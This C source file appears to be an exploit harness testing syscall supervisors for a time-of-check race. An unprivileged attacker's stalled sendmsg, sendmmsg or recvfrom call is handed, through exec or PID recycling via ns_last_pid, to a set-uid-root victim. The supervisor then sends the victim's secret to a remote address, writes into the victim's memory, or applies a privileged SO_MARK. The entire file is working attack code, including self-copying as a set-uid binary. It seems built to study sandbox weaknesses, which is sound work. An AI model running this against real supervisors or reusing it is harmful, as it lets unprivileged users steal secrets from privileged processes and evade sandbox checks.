// A program whose call a supervisor is in the middle of, and whose id another process then has.
//
//   held attack exec|recycled MILLISECONDS COMMAND…   the stage, as root: runs COMMAND, a supervisor with the attacker
//                                        below it; waits so long for the victim before the slow file is there
//   held attacker CALL exec|recycled ADDRESS PORT   the attacker, as an ordinary user
//   held victim                          a program with a secret: set-uid root, or started by the stage
//
// The attacker makes CALL, for which something has to be read from the slow file. While that waits, the id that made
// the call becomes the victim's: by an exec of a set-uid file in another thread, or because the attacker is killed and
// the stage's next process gets its id. Then the slow file is there, and the supervisor goes on. Where it is the kernel that
// reads for the attacker, and not a supervisor, nobody can take its place before that: the victim then comes too late.
#include "held.h"

#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>

// Attacker and victim have a page at the same address. The victim has in it what programs have: a secret, an iovec that
// it uses itself, a small number, and variables.
#define BASE 0x20000000UL
enum { secret_length = 24, after_release_ms = 400 };
struct memory {
    char secret[64];
    struct iovec own;
    char more[256 - 64 - sizeof(struct iovec)];
    unsigned char variables[1024];
    int number;
};
static struct memory *const memory = (struct memory *)BASE;
#define VARIABLE (memory->variables + 512)

static void fill_memory(const char *secret)
{
    if (mmap((void *)BASE, page_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED)
        failed("mmap");
    strcpy(memory->secret, secret);
    memory->own = (struct iovec){ memory->secret, secret_length };
    memset(memory->variables, 0x5a, sizeof memory->variables);
    memory->number = sizeof(struct sockaddr_in);
}

// --- the victim ----------------------------------------------------------------------------------------------------

static void victim(char **words)
{
    static unsigned char before[page_size];
    struct scene *scene = open_scene();
    (void)words;

    fill_memory("THE-SECRET-OF-THE-VICTIM");
    memcpy(before, memory, page_size);
    scene->victim_user = (int)geteuid();
    scene->victim = getpid();
    scene->victim_is_there = true;
    wait_until(&scene->over, wait_ms);
    scene->first_changed = -1;
    for (int i = page_size - 1; i >= 0; i--)
        if (before[i] != ((unsigned char *)memory)[i])
            scene->first_changed = i;
    scene->victim_has_looked = true;
}

// --- the attacker --------------------------------------------------------------------------------------------------

struct attack {
    struct scene *scene;
    int fd;
    struct sockaddr_in to;
    void *slow;              // not yet readable: what the supervisor waits for
    struct iovec first;      // what the first message of a vector says
};

static struct msghdr message_to(struct attack *attack, struct iovec *data)
{
    return (struct msghdr){ .msg_name = &attack->to, .msg_namelen = sizeof attack->to, .msg_iov = data, .msg_iovlen = 1 };
}

// The payload's address is read late; the attacker has chosen it.
static void sendmsg_payload(struct attack *attack)
{
    struct msghdr message = message_to(attack, attack->slow);
    memcpy(attack->scene->content, &memory->own, sizeof memory->own);
    sendmsg(attack->fd, &message, 0);
}

static void send_two(struct attack *attack, struct msghdr second)
{
    struct mmsghdr messages[2] = { { .msg_hdr = message_to(attack, &attack->first) }, { .msg_hdr = second } };
    sendmmsg(attack->fd, messages, 2, 0);
}

static void second_payload(struct attack *attack)
{
    memcpy(attack->scene->content, &memory->own, sizeof memory->own);
    send_two(attack, message_to(attack, attack->slow));
}

static void second_name(struct attack *attack)
{
    struct msghdr second = message_to(attack, &memory->own);
    memcpy(attack->scene->content, &attack->to, sizeof attack->to);
    second.msg_name = attack->slow;
    send_two(attack, second);
}

// The kernel gives SO_MARK only to who has CAP_NET_ADMIN.
static size_t mark(void *place)
{
    int value = 77;
    struct cmsghdr header = { .cmsg_len = CMSG_LEN(sizeof value), .cmsg_level = SOL_SOCKET, .cmsg_type = SO_MARK };
    memcpy(place, &header, sizeof header);
    memcpy((char *)place + CMSG_LEN(0), &value, sizeof value);
    return CMSG_SPACE(sizeof value);
}

static void second_mark(struct attack *attack)
{
    struct msghdr second = message_to(attack, NULL);
    second.msg_iovlen = 0;
    second.msg_control = attack->slow;
    second.msg_controllen = mark(attack->scene->content);
    send_two(attack, second);
}

// What the attacker does without a trick: EPERM.
static void mark_plainly(struct attack *attack)
{
    char control[CMSG_SPACE(sizeof(int))] = { 0 };
    struct msghdr message = message_to(attack, &memory->own);
    message.msg_control = control;
    message.msg_controllen = mark(control);
    printf("sendmsg %s\n", outcome(sendmsg(attack->fd, &message, 0)));
}

// sendmmsg writes how much it sent behind the header, which ends at the variable.
static void length_at_variable(struct attack *attack)
{
    struct mmsghdr *at = (struct mmsghdr *)(VARIABLE - offsetof(struct mmsghdr, msg_len));
    at->msg_hdr = message_to(attack, attack->slow);
    memcpy(attack->scene->content, &memory->own, sizeof memory->own);
    sendmmsg(attack->fd, at, 1, 0);
}

// Where a query is redirected, the server that is asked is written over the one that was named.
static void redirect_at_variable(struct attack *attack)
{
    struct msghdr message = message_to(attack, attack->slow);
    memcpy(attack->scene->content, &memory->own, sizeof memory->own);
    memcpy(VARIABLE, &attack->to, sizeof attack->to);
    message.msg_name = VARIABLE;
    sendmsg(attack->fd, &message, 0);
}

static const unsigned char query[] = {
    0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4, 's', 'i', 'd', 'e', 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1,
};

// A redirected query, whose reply has its source restored: the supervisor writes what was received, then a sockaddr.
static void source_at_variable(struct attack *attack)
{
    struct sockaddr_in asked = attack->to;
    struct pollfd readable = { .fd = attack->fd, .events = POLLIN };
    check(sendto(attack->fd, query, sizeof query, 0, (void *)&asked, sizeof asked), "sendto");
    asked = attack->to;
    if (poll(&readable, 1, 3000) != 1)
        failed("no reply");
    recvfrom(attack->fd, attack->slow, 512, 0, (void *)VARIABLE, (socklen_t *)&memory->number);
}

static const struct { const char *name; void (*make)(struct attack *); } calls[] = {
    { "sendmsg-payload", sendmsg_payload }, { "second-payload", second_payload }, { "second-name", second_name },
    { "second-mark", second_mark }, { "mark-plainly", mark_plainly },
    { "length-at-variable", length_at_variable }, { "source-at-variable", source_at_variable },
    { "redirect-at-variable", redirect_at_variable },
};

static void *become_the_victim(void *argument)
{
    struct attack *attack = argument;
    char program[256];
    snprintf(program, sizeof program, "%s/victim", getenv("HELD"));
    if (wait_until(&attack->scene->read_is_held, wait_ms))
        execl(program, program, "victim", (char *)NULL);
    failed("exec");
}

static void make_call(struct attack *attack, const char *name, bool execs)
{
    pthread_t thread;
    fill_memory("the attacker's own words");
    attack->first = (struct iovec){ "first", 5 };
    attack->slow = slow_page(PROT_READ | PROT_WRITE);
    attack->scene->attacker = getpid();
    if (execs)
        pthread_create(&thread, NULL, become_the_victim, attack);
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
        if (!strcmp(calls[i].name, name))
            calls[i].make(attack);
    _exit(0);
}

// What came back from the far end tells what arrived there.
static void print_answers(int fd)
{
    char answer[2048];
    ssize_t size;
    while ((size = recv(fd, answer, sizeof answer, MSG_DONTWAIT)) >= 0)
        printf("far end: %.*s\n", (int)size, answer);
}

static void attacker(char **words)
{
    struct attack attack = { .scene = open_scene(), .fd = open_udp(), .to = parse_address(words[2], words[3]) };
    bool execs = !strcmp(words[1], "exec");
    pid_t child = (pid_t)check(fork(), "fork");

    if (!child)
        make_call(&attack, words[0], execs);
    if (!strcmp(words[0], "mark-plainly")) {
        waitpid(child, NULL, 0);
        return;
    }
    if (!wait_until(&attack.scene->read_is_held, wait_ms))
        puts("nobody read the slow file");
    if (!execs) {
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        attack.scene->dead = true;
    }
    wait_until(&attack.scene->release, wait_ms);
    pause_ms(after_release_ms);
    print_answers(attack.fd);
    attack.scene->over = true;
    wait_until(&attack.scene->victim_has_looked, wait_ms);
}

// --- the stage -----------------------------------------------------------------------------------------------------

static void copy_set_uid(const char *to)
{
    char buffer[65536];
    ssize_t size;
    int source = (int)check(open("/proc/self/exe", O_RDONLY | O_CLOEXEC), "open");
    int copy = (int)check(open(to, O_WRONLY | O_CREAT | O_CLOEXEC, 0755), "open");
    while ((size = read(source, buffer, sizeof buffer)) > 0)
        check(write(copy, buffer, size), "write");
    check(fchmod(copy, 04755), "chmod");
    close(copy);
    close(source);
}

// The next process of this namespace gets the id that follows the last one given.
static void start_with_id(int id, char **words)
{
    for (int tries = 0; tries < 50; tries++) {
        FILE *last = fopen("/proc/sys/kernel/ns_last_pid", "w");
        if (!last || fprintf(last, "%d", id - 1) < 0 || fclose(last) != 0)
            failed("ns_last_pid");
        pid_t child = fork();
        if (!child) {
            if (getpid() != id)
                _exit(0);
            execv(words[0], words);
            failed("exec");
        }
        if (child == id)
            return;
        waitpid(child, NULL, 0);
    }
    puts("another has the id");
}

static void attack(char **words)
{
    bool execs = !strcmp(words[0], "exec");
    int milliseconds = atoi(words[1]);
    char program[256];
    make_stage();
    struct scene *scene = open_scene();
    snprintf(program, sizeof program, "%s/victim", getenv("HELD"));
    copy_set_uid(program);
    char *victim_words[] = { program, "victim", NULL };
    pid_t supervisor = start(words + 2);
    bool free = execs || wait_until(&scene->dead, milliseconds);
    if (free && !execs)
        start_with_id(scene->attacker, victim_words);
    bool in_the_middle = free && wait_until(&scene->victim_is_there, milliseconds);
    scene->release = true;
    if (!free && wait_until(&scene->dead, wait_ms))
        start_with_id(scene->attacker, victim_words);
    if (!wait_until(&scene->victim_is_there, wait_ms))
        puts("no victim");
    wait_until(&scene->victim_has_looked, wait_ms);
    waitpid(supervisor, NULL, 0);
    puts(in_the_middle ? "in the middle" : "too late");
    printf("victim: user %d, %s id, ", scene->victim_user, scene->victim == scene->attacker ? "the attacker's" : "another");
    if (scene->first_changed < 0)
        puts("memory as it was");
    else
        printf("memory changed at %d\n", scene->first_changed);
    fflush(stdout);
    _exit(0);
}

const struct held_program attack_programs[] = {
    { "attack", attack },
    { "attacker", attacker },
    { "victim", victim },
    { 0 },
};
